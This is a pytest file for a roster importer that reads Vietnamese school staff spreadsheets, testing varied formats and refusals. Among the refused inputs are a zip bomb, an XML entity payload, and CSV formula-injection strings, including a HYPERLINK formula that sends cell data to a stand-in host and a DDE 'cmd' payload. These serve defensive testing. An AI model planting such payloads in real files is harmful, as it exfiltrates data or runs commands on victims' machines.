"""Spreadsheets as schools send them, and as nobody should: read all the same, or refused at the very cell."""

from __future__ import annotations

import io
import unicodedata
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path

import pytest
from conftest import LAB, Inventory
from openpyxl import Workbook
from rosters import HEADER, PRIMARY, as_csv, as_xlsx, planned, prepared, saved, staff, told

from edumail import cli
from edumail.people.plan import Plan
from edumail.problems import InventoryError, Problem

STAFF = staff(LAB)
ROWS: list[list[object]] = [list(HEADER), *[list(row) for row in STAFF]]
MOVED = [("changed", "th-07")]
"""In most of these files one person has changed section, so that "read" is more than "nothing was understood"."""
CHANGED = [list(row) for row in ROWS]
CHANGED[7][3] = "khoi-4-5"


def edited(row: int, column: int, value: object) -> list[list[object]]:
    """The rows with one cell changed; the header is row 0, as in the spreadsheet it is row 1."""
    rows = [list(cells) for cells in CHANGED]
    rows[row][column] = value
    return rows


def without(columns: set[int]) -> list[list[object]]:
    return [[cell for column, cell in enumerate(row) if column not in columns] for row in CHANGED]


def letterhead(rows: list[list[object]]) -> list[list[object]]:
    return [
        ["ỦY BAN NHÂN DÂN XÃ SUỐI MƠ", "", "", "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", ""],
        ["TRƯỜNG TIỂU HỌC SUỐI MƠ", "", "", "Độc lập – Tự do – Hạnh phúc", ""],
        [],
        ["DANH SÁCH CÁN BỘ, GIÁO VIÊN, NHÂN VIÊN", "", "", "", ""],
        ["Năm học 2026–2027"],
        *rows,
    ]


SIGNED = [
    ["", "", "Tổng cộng: 12 người", "", ""],
    [],
    ["", "", "", "", "Suối Mơ, ngày 5 tháng 8 năm 2026"],
    ["", "", "Người lập biểu", "", "HIỆU TRƯỞNG"],
    ["", "", "(Ký, ghi rõ họ tên)", "", "(Ký tên, đóng dấu)"],
    ["", "", "Lục Thị Nhị", "", "Nguyễn Văn Bằng"],
]


def nfd(rows: list[list[object]]) -> list[list[object]]:
    return [[unicodedata.normalize("NFD", str(cell)) for cell in row] for row in rows]


def hidden(rows: list[list[object]]) -> list[list[object]]:
    """Characters that nobody sees, as pages and old editors leave them."""
    return [[f"\u200b{str(cell).replace(' ', chr(0xA0) + ' ')}\ufeff " for cell in row] for row in rows]


def several(rows: list[list[object]], other: list[list[object]] | None, state: str = "visible") -> bytes:
    book = Workbook()
    page = book.active
    assert page is not None
    for row in rows:
        page.append(row)
    page = book.create_sheet("Năm ngoái")
    page.sheet_state = state
    for row in other or ():
        page.append(row)
    return saved(book)


def sections_joined() -> bytes:
    """A section stands once, over all of its rows."""
    rows = [list(row) for row in CHANGED]
    order = sorted(range(1, len(rows)), key=lambda i: str(rows[i][3]))
    rows = [rows[0], *(rows[i] for i in order)]
    values = [str(row[3]) for row in rows]
    merged = []
    for section in ("khoi-1-2-3", "khoi-4-5"):
        numbers = [i for i, value in enumerate(values) if value == section]
        merged.append(f"D{numbers[0] + 1}:D{numbers[-1] + 1}")
        for i in numbers[1:]:
            rows[i][3] = None
    return as_xlsx(rows, merged)


def headed_by_section() -> list[list[object]]:
    """The table is cut into sections by rows with nothing but their names."""
    rows: list[list[object]] = [["STT", "Mã", "Họ và tên", "Chức vụ"]]
    number = 0
    for section, title in (("", ""), ("khoi-1-2-3", "I. TỔ KHỐI 1-2-3"), ("khoi-4-5", "II. Tổ Khối 4 – 5")):
        if title:
            rows.append(["", "", title, ""])
        for row in CHANGED[1:]:
            if row[3] == section:
                number += 1
                rows.append([number, row[1], row[2], row[4]])
    return rows


def dimension_lies() -> bytes:
    """Programs other than Excel write a wrong size of the table."""
    result = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(as_xlsx(CHANGED))) as old, zipfile.ZipFile(result, "w") as new:
        for item in old.infolist():
            content = old.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                assert b'<dimension ref="A1:E13"' in content
                content = content.replace(b'<dimension ref="A1:E13"', b'<dimension ref="A1:E2"')
            new.writestr(item, content)
    return result.getvalue()


READ: dict[str, bytes] = {
    "as the inventory has it": as_csv(CHANGED),
    "xlsx": as_xlsx(CHANGED),
    "semicolons": as_csv(CHANGED, ";"),
    "tabs in UTF-16, which Excel calls Unicode text": b"\xff\xfe" + as_csv(CHANGED, "\t", "utf-16-le"),
    "UTF-16, big end first": b"\xfe\xff" + as_csv(CHANGED, "\t", "utf-16-be"),
    "UTF-16 without its mark": as_csv(CHANGED, "\t", "utf-16-le"),
    "UTF-8 with its mark": b"\xef\xbb\xbf" + as_csv(CHANGED),
    "a separator that is named": b"sep=;\r\n" + as_csv(CHANGED, ";"),
    "letters in pieces (NFD)": as_csv(nfd(CHANGED)),
    "letters in pieces in xlsx": as_xlsx(nfd(CHANGED)),
    "spaces that nobody sees": as_csv(hidden(CHANGED)),
    "many spaces": as_csv([[f"  {str(cell).replace(' ', '   ')} " for cell in row] for row in CHANGED]),
    "titles above": as_csv(letterhead(CHANGED)),
    "titles above, joined": as_xlsx(letterhead(CHANGED), ["A1:C1", "D1:E1", "A4:E4", "A5:E5"]),
    "sums and signatures below": as_xlsx([*CHANGED, *SIGNED]),
    "sums and signatures below in a table without numbers": as_csv([row[1:] for row in [*CHANGED, *SIGNED] if row]),
    "numbers of columns under the header": as_csv([CHANGED[0], ["(1)", "(2)", "(3)", "(4)", "(5)"], *CHANGED[1:]]),
    "a second line of the header": as_xlsx([CHANGED[0], ["", "", "", "chuyên môn", ""], *CHANGED[1:]]),
    "a header of two rows": as_xlsx(
        [
            ["STT", "Mã", "Họ và tên", "Công tác", ""],
            ["", "", "", "Tổ chuyên môn", "Chức vụ"],
            *CHANGED[1:],
        ],
        ["A1:A2", "B1:B2", "C1:C2", "D1:E1"],
    ),
    "a header of two rows, with the parts of names": as_xlsx(
        [
            ["STT", "Họ và tên", "", "Công tác", ""],
            ["", "Họ đệm", "Tên", "Tổ", "Chức vụ"],
            *([r[0], str(r[2]).rpartition(" ")[0], str(r[2]).rpartition(" ")[2], r[3], r[4]] for r in CHANGED[1:]),
        ],
        ["A1:A2", "B1:C1", "D1:E1"],
    ),
    "empty rows": as_csv([row for pair in zip(CHANGED, [[], ["", " "]] * 7, strict=False) for row in pair]),
    "a form with numbers for more": as_csv([*CHANGED, ["13"], ["14", "", "", "", ""]]),
    "no ids": as_csv(without({0, 1})),
    "a school's own ids": as_csv([CHANGED[0], *([r[0], f"27034567{i:02}", *r[2:]] for i, r in enumerate(CHANGED[1:]))]),
    "ids in capitals": as_csv([[row[0], str(row[1]).upper().replace("-", " "), *row[2:]] for row in CHANGED]),
    "names in capitals": as_csv([[*row[:2], str(row[2]).upper(), *row[3:]] for row in CHANGED]),
    "names in small letters": as_csv([CHANGED[0], *([*row[:2], str(row[2]).lower(), *row[3:]] for row in CHANGED[1:])]),
    "other words in the header": as_csv(
        [["Số TT", "Mã định danh", "HỌ VÀ TÊN (*)", "Tổ chuyên môn", "Chức vụ,\nchức danh"], *CHANGED[1:]]
    ),
    "two words for one column": as_csv([["TT", "Mã GV", "Họ tên", "Tổ/Bộ phận", "Chức vụ - Nhiệm vụ"], *CHANGED[1:]]),
    "family and given names apart": as_csv(
        [
            ["Họ đệm", "Tên", "Tổ", "Chức vụ"],
            *([str(r[2]).rpartition(" ")[0], str(r[2]).rpartition(" ")[2], r[3], r[4]] for r in CHANGED[1:]),
        ]
    ),
    "one title over family and given names": as_xlsx(
        [
            ["STT", "Họ và tên", "", "Tổ", "Chức vụ"],
            *([r[0], str(r[2]).rpartition(" ")[0], str(r[2]).rpartition(" ")[2], r[3], r[4]] for r in CHANGED[1:]),
        ],
        ["B1:C1"],
    ),
    "one title over family and given names in pieces (NFD)": as_xlsx(
        nfd(
            [
                ["STT", "Họ và tên", "", "Tổ", "Chức vụ"],
                *([r[0], str(r[2]).rpartition(" ")[0], str(r[2]).rpartition(" ")[2], r[3], r[4]] for r in CHANGED[1:]),
            ]
        ),
        ["B1:C1"],
    ),
    "sections joined over their rows": sections_joined(),
    "sections as headings": as_csv(headed_by_section()),
    "posts in short": as_csv(
        [
            CHANGED[0],
            [1, "th-01", "Nguyễn Văn Bằng", "-", "HT"],
            *CHANGED[2:5],
            [5, "th-05", "Mạc Thị Thoa", "khối 1-2-3", "GV, TTCM"],
            *CHANGED[6:12],
            [12, "th-12", "Kiều Thị Hạnh", "", "NV Y tế kiêm Thư viện"],
        ]
    ),
    "a row copied": as_csv([*CHANGED, CHANGED[3]]),
    "other columns, with dates as dates, as text and as years": as_xlsx(
        [
            [*row, day, "0912 345 678", "=A1+1"]
            for row, day in zip(
                CHANGED,
                ["Ngày sinh", datetime(1980, 5, 7), date(1980, 5, 7), "7/5/1980", 1980, None, *["05.07.1980"] * 7],
                strict=True,
            )
        ]
    ),
    "private addresses": as_csv(
        [["Email", *CHANGED[0]], *([f"nguoi{i}@thu.example", *row] for i, row in enumerate(CHANGED[1:]))]
    ),
    "numbers by a formula": as_xlsx([CHANGED[0], *(["=ROW()-1", *row[1:]] for row in CHANGED[1:])]),
    "the header on each page": as_csv([*CHANGED[:6], CHANGED[0], *CHANGED[6:]]),
    "titles before names": as_csv([CHANGED[0], *([*r[:2], f"Cô giáo {r[2]}", *r[3:]] for r in CHANGED[1:])]),
    "degrees before names": as_csv([CHANGED[0], *([*r[:2], f"ThS. {r[2]}", *r[3:]] for r in CHANGED[1:])]),
    "subjects behind posts": as_csv(
        [CHANGED[0], *([*r[:4], str(r[4]).replace("Giáo viên", "GV Toán – Tin")] for r in CHANGED[1:])]
    ),
    "posts as a list in one cell": as_xlsx(
        [CHANGED[0], *([*r[:4], "\n".join(f"- {post}" for post in str(r[4]).split("; "))] for r in CHANGED[1:])]
    ),
    "an empty second sheet": several(CHANGED, None),
    "a second sheet that is hidden": several(CHANGED, ROWS, "hidden"),
    "a size that is wrong": dimension_lies(),
}


@pytest.mark.parametrize("kind", READ)
def test_what_schools_send_is_read(kind: str) -> None:
    plan = planned(LAB, READ[kind])
    assert plan.refused == []
    assert told(plan) == MOVED
    assert plan.unchanged == len(STAFF) - 1


def bomb() -> bytes:
    """Small on the disk, 300 MiB when it is unpacked."""
    result = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(as_xlsx(ROWS))) as old,
        zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for item in old.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                new.writestr(item, old.read(item))
        new.writestr("xl/worksheets/sheet1.xml", b" " * (300 * 2**20))
    return result.getvalue()


def part_replaced(part: str, content: bytes) -> bytes:
    result = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(as_xlsx(ROWS))) as old, zipfile.ZipFile(result, "w") as new:
        for item in old.infolist():
            new.writestr(item, content if item.filename == part else old.read(item))
    return result.getvalue()


ENTITIES = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">
<c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>"""


def zipped(name: str) -> bytes:
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w") as archive:
        archive.writestr(name, "x")
    return result.getvalue()


OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512
REFUSED: dict[str, tuple[bytes | Callable[[], bytes], str, int]] = {
    "nothing": (b"", "sheet-empty", 0),
    "nothing but spaces": (b"\r\n \r\n", "sheet-empty", 0),
    "21 MiB": (lambda: b"a" * (21 * 2**20), "sheet-size", 0),
    ".xls": (OLD, "sheet-kind", 0),
    "a password": (OLD + "EncryptedPackage".encode("utf-16-le"), "sheet-kind", 0),
    "PDF": (b"%PDF-1.7 ...", "sheet-kind", 0),
    "a photograph": (b"\xff\xd8\xff\xe0 JFIF", "sheet-kind", 0),
    "a page that is called .xls": (b"<html><table><tr><td>H\xe1\xbb\x8d</td></tr></table></html>", "sheet-kind", 0),
    "LibreOffice's own": (zipped("content.xml"), "sheet-kind", 0),
    "a text document": (zipped("word/document.xml"), "sheet-kind", 0),
    "half of an archive": (as_xlsx(ROWS)[:3000], "sheet-broken", 0),
    "a sheet that is no XML": (part_replaced("xl/worksheets/sheet1.xml", b"<work"), "sheet-broken", 0),
    "a workbook without meaning": (part_replaced("xl/workbook.xml", b"<x/>"), "no-header", 0),
    "entities": (part_replaced("xl/worksheets/sheet1.xml", ENTITIES), "sheet-broken", 0),
    "a bomb": (bomb, "sheet-size", 0),
    "100,001 rows": (lambda: as_csv([["Họ và tên"], *([["Nguyễn Văn An"]] * 100_001)]), "sheet-rows", 100_000),
    "windows-1258": ("Mã,Họ và tên\nth-01,Nguyễn Văn B".encode() + b"\xe0ng\n", "sheet-encoding", 2),
    "TCVN3 by its bytes": (b"M\xb7,H\xe4 v\xb5 t\xaan\nth-01,Nguy\xd4n V\xa8n An\n", "sheet-encoding", 1),
    "TCVN3 in Unicode": (as_xlsx(edited(3, 2, "§oµn C«ng Lùc")), "old-font", 4),
    "VNI in Unicode": (as_csv(edited(3, 2, "Ñoaøn Coâng Löïc")), "old-font", 4),
    "a quote without its end": (
        b'M\xc3\xa3,H\xe1\xbb\x8d v\xc3\xa0 t\xc3\xaan\nth-01,"An\nth-02,B\xc3\xacnh\n',
        "sheet-csv",
        2,
    ),
    "NUL in the middle": (as_csv(ROWS) + b"x\0y\n", "sheet-csv", 14),
    "no header": (as_csv(ROWS[1:]), "no-header", 1),
    "given names alone": (as_csv([["STT", "Tên", "Tổ"], *([r[0], r[2], r[3]] for r in ROWS[1:])]), "no-header", 1),
    "two columns of one name": (as_csv([[*row, row[2]] for row in ROWS]), "column-twice", 1),
    "a header and nobody": (as_csv([ROWS[0], ["1"], ["2"]]), "no-people", 1),
    "two sheets": (several(ROWS, ROWS), "several-sheets", 0),
    "a name by a formula": (as_xlsx(edited(5, 2, '=B6&" "&C6')), "sheet-formula", 6),
    "an id by a formula": (as_xlsx(edited(5, 1, "=A6")), "sheet-formula", 6),
    "a formula to steal with": (as_csv(edited(5, 2, '=HYPERLINK("http://x.example/"&A1,"Xem")')), "sheet-formula", 6),
    "a formula with a plus": (as_csv(edited(5, 2, "+84 Nguyễn Văn An")), "sheet-formula", 6),
    "a formula with a minus": (as_csv(edited(5, 3, "-2+3+cmd|' /C calc'!A0")), "sheet-formula", 6),
    "a formula with an at": (as_csv(edited(5, 2, "@SUM(1)")), "sheet-formula", 6),
    "a formula in a wide letter": (as_csv(edited(5, 2, "＝SUM(1)")), "sheet-formula", 6),
    "an error of the spreadsheet": (as_xlsx(edited(5, 2, "#REF!")), "sheet-error", 6),
    "a control character": (as_csv(edited(5, 2, "Mạc \x1b[2JThoa")), "sheet-control", 6),
    "a telephone number for a name": (as_csv(edited(5, 2, "0912345678")), "bad-name", 6),
    "a name with digits": (as_csv(edited(5, 2, "Mạc Thị Thoa 2")), "bad-name", 6),
    "a name without end": (as_csv(edited(5, 2, "Mạc " * 60)), "bad-name", 6),
    "a row without a name": (as_csv(edited(5, 2, "")), "no-name", 6),
    "an id as a large number": (as_csv(edited(5, 1, "2,70346E+09")), "id-rounded", 6),
    "an id of signs": (as_csv(edited(5, 1, "???")), "bad-id", 6),
    "an id twice": (as_csv(edited(5, 1, "th-04")), "id-twice", 6),
    "an unknown section": (as_csv(edited(5, 3, "Ban giám hiệu")), "unknown-section", 6),
    "an unknown post": (as_csv(edited(5, 4, "Giáo viên; Phi công")), "unknown-post", 6),
    "an address of ours that is none": (
        as_csv([["Email", *CHANGED[0]], ["thoa..mt@suoimo.minhha.test", *CHANGED[5]]]),
        "bad-address",
        2,
    ),
    "somebody else's id": (as_csv(edited(5, 1, "th-99")), "other-id", 6),
    "ids that slipped by a row": (as_csv(edited(5, 1, "cs-03")), "other-name", 6),
    "a person under the signature, in a table without numbers": (
        as_csv([row[1:] for row in [*CHANGED, *SIGNED, ["13", "", "Lò Thị Đào", "", "GV"]] if row]),
        "below-the-table",
        19,
    ),
    "the first row without a name": (as_csv(edited(1, 2, "")), "no-name", 2),
    "a person under the signature": (
        as_csv([*CHANGED, *SIGNED, ["13", "", "Lò Thị Đào", "", "Phi công"]]),
        "unknown-post",
        20,
    ),
}


def refusals(content: bytes) -> list[Problem]:
    try:
        return planned(LAB, content).refused
    except InventoryError as error:
        return error.problems


@pytest.mark.parametrize("kind", REFUSED)
def test_what_cannot_be_read_is_refused_where_it_stands(kind: str) -> None:
    content, code, row = REFUSED[kind]
    found = refusals(content() if callable(content) else content)
    assert (code, row) in [(problem.code, problem.where.line) for problem in found]
    for problem in found:
        assert problem.where.file == "ds"
        assert problem.vi != problem.en
        assert problem.text("vi").isprintable()
        assert problem.text("en").isprintable()


def test_a_cell_is_named_as_the_spreadsheet_names_it() -> None:
    (problem,) = refusals(as_xlsx(edited(4, 3, "=1+1")))
    assert "ô D5 là công thức" in problem.vi
    assert "cell D5 is a formula" in problem.en
    assert str(problem.where) == "ds:5:4"


def test_a_row_that_cannot_be_read_makes_nobody_leave() -> None:
    plan = planned(LAB, as_csv(edited(5, 2, "0912345678")))
    assert plan.refused
    assert plan.of("left") == []


def test_who_has_to_add_a_section_is_shown_the_entry() -> None:
    (problem,) = refusals(as_csv(edited(5, 3, "Ban giám hiệu")))
    entry = "- {id: ban-giam-hieu, name: Ban giám hiệu, address: bangiamhieu.thsuoimo@suoimo.minhha.test}"
    assert entry in problem.vi
    assert entry in problem.en


def test_the_sheet_is_chosen_by_name(inventory: Inventory, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    file = tmp_path / "ds.xlsx"
    file.write_bytes(several(ROWS, CHANGED))
    words = ["roster", "import", str(inventory.folder), PRIMARY, str(file), "--plan", "--lang", "en"]
    assert cli.main(words) == 1
    assert "--sheet NAME" in capsys.readouterr().err
    assert cli.main([*words, "--sheet", "Năm ngoái"]) == 0
    assert "changed 1" in capsys.readouterr().out
    assert cli.main([*words, "--sheet", "Sheet9"]) == 1
    assert "there is no sheet 'Sheet9' (there are: «Sheet», «Năm ngoái»)" in capsys.readouterr().err


def notes(plan: Plan) -> dict[str, Problem]:
    return {note.code: note for note in plan.notes}


def test_what_was_passed_over_is_said() -> None:
    rows = [[*row, "0912", "001080000001"] for row in CHANGED]
    rows[0][-2:] = ["Điện thoại", "Số CCCD"]
    plan = planned(LAB, as_csv([*rows, *SIGNED]))
    assert told(plan) == MOVED
    assert "«Điện thoại», «Số CCCD»" in notes(plan)["columns-ignored"].vi
    assert "'Điện thoại', 'Số CCCD'" in notes(plan)["columns-ignored"].en
    passed = [note for note in plan.notes if note.code == "row-skipped"]
    assert [note.where.line for note in passed] == [14, 16, 17, 18, 19]
    assert "'Lục Thị Nhị Nguyễn Văn Bằng'" in passed[-1].en


def test_columns_that_are_missing_are_named() -> None:
    plan = planned(LAB, as_csv(without({3, 4})))
    assert plan.lines == []
    assert sorted(note.en[:27] for note in plan.notes) == ["there is no column 'Chức vụ", "there is no column 'Tổ': se"]
    assert not [note for note in planned(LAB, READ["sections as headings"]).notes if note.code == "no-column"]


@pytest.mark.parametrize(
    ("written", "name"),
    [
        ("TRẦN THỊ ÁNH", "Trần Thị Ánh"),
        ("trần thị ánh", "Trần Thị Ánh"),
        ("H'HEN NIÊ", "H'Hen Niê"),
        ("Y-BIH ÊBAN", "Y-Bih Êban"),
        ("ĐẶNG THỊ ĐÀO", "Đặng Thị Đào"),
        ("Trần  Thị\u00a0Ánh ", "Trần Thị Ánh"),
        ("Trần Thị A\u0301nh", "Trần Thị Ánh"),
        ("Nguyễn Thị Lan (B)", "Nguyễn Thị Lan (B)"),
    ],
)
def test_names_are_written_as_names(written: str, name: str) -> None:
    plan = planned(LAB, as_csv([*ROWS, ["13", "", written, "", "GV"]]))
    (line,) = plan.of("new")
    assert line.after is not None
    assert line.after.name == name
    assert ("name-recased" in notes(plan)) == (written == written.upper() or written == written.lower())


def test_a_name_in_capitals_does_not_undo_how_the_inventory_writes_it(inventory: Inventory) -> None:
    inventory.replace("people/th-suoi-mo.csv", "Kiều Thị Hạnh", "Kiều Thị HẠnh")
    plan = planned(inventory.folder, READ["names in capitals"])
    assert told(plan) == MOVED


@pytest.mark.parametrize(
    "name",
    [
        "Tống Công Minh",
        "Lưu Ý Nhi",
        "Kỷ Văn An",
        "An Đình Phúc",
        "Tô Thị Ban",
        "Nguyễn Thị Ký",
        "Danh Sơn",
    ],
)
def test_names_that_look_like_the_end_of_a_table_are_names(name: str) -> None:
    rows = [row[1:] for row in CHANGED]
    remark = ["", name, "", "GV"]
    plan = planned(LAB, as_csv([*rows[:5], remark, *rows[5:]]))
    assert told(plan) == [("new", "th-13"), *MOVED]
    assert [note for note in plan.notes if note.code == "row-skipped"] == []


def test_a_day_in_a_remark_does_not_end_the_table() -> None:
    rows = [[*row[1:], "Hợp đồng từ ngày 1 tháng 9 năm 2025"] for row in CHANGED]
    assert told(planned(LAB, as_csv(rows))) == MOVED


def test_a_post_that_is_guessed_is_said() -> None:
    plan = planned(LAB, READ["subjects behind posts"])
    (note,) = (note for note in plan.notes if note.code == "post-guessed")
    assert note.vi == "«GV Toán – Tin» được hiểu là Giáo viên, ở dòng 6, 7, 8, 9, 10, 11, 12"


@pytest.mark.parametrize("change", [nfd, hidden])
def test_unicode_forms_and_hidden_characters_give_the_same_plan(
    change: Callable[[list[list[object]]], list[list[object]]],
) -> None:
    rows = [*edited(3, 2, "Đoàn Công Lức"), ["13", "", "Đặng Thị Hường", "Tổ khối 4–5", "Giáo viên; Tổ trưởng"]]
    plain, other = planned(LAB, as_csv(rows)), planned(LAB, as_csv(change(rows)))
    assert plain.lines == other.lines
    assert len(plain.lines) == 3
    as_written = prepared(LAB, as_xlsx(change(rows))).changes
    assert as_written == prepared(LAB, as_csv(rows)).changes


def test_any_bytes_are_one_answer() -> None:
    """What is cut or spoilt anywhere is read or refused, and never a traceback."""
    for content in (as_xlsx(CHANGED), as_csv(CHANGED), b"\xff\xfe" + as_csv(CHANGED, "\t", "utf-16-le")):
        for step in range(40):
            at = len(content) * step // 40
            for spoilt in (content[:at], content[:at] + b"\xff\0<" + content[at + 3 :]):
                refusals(spoilt)
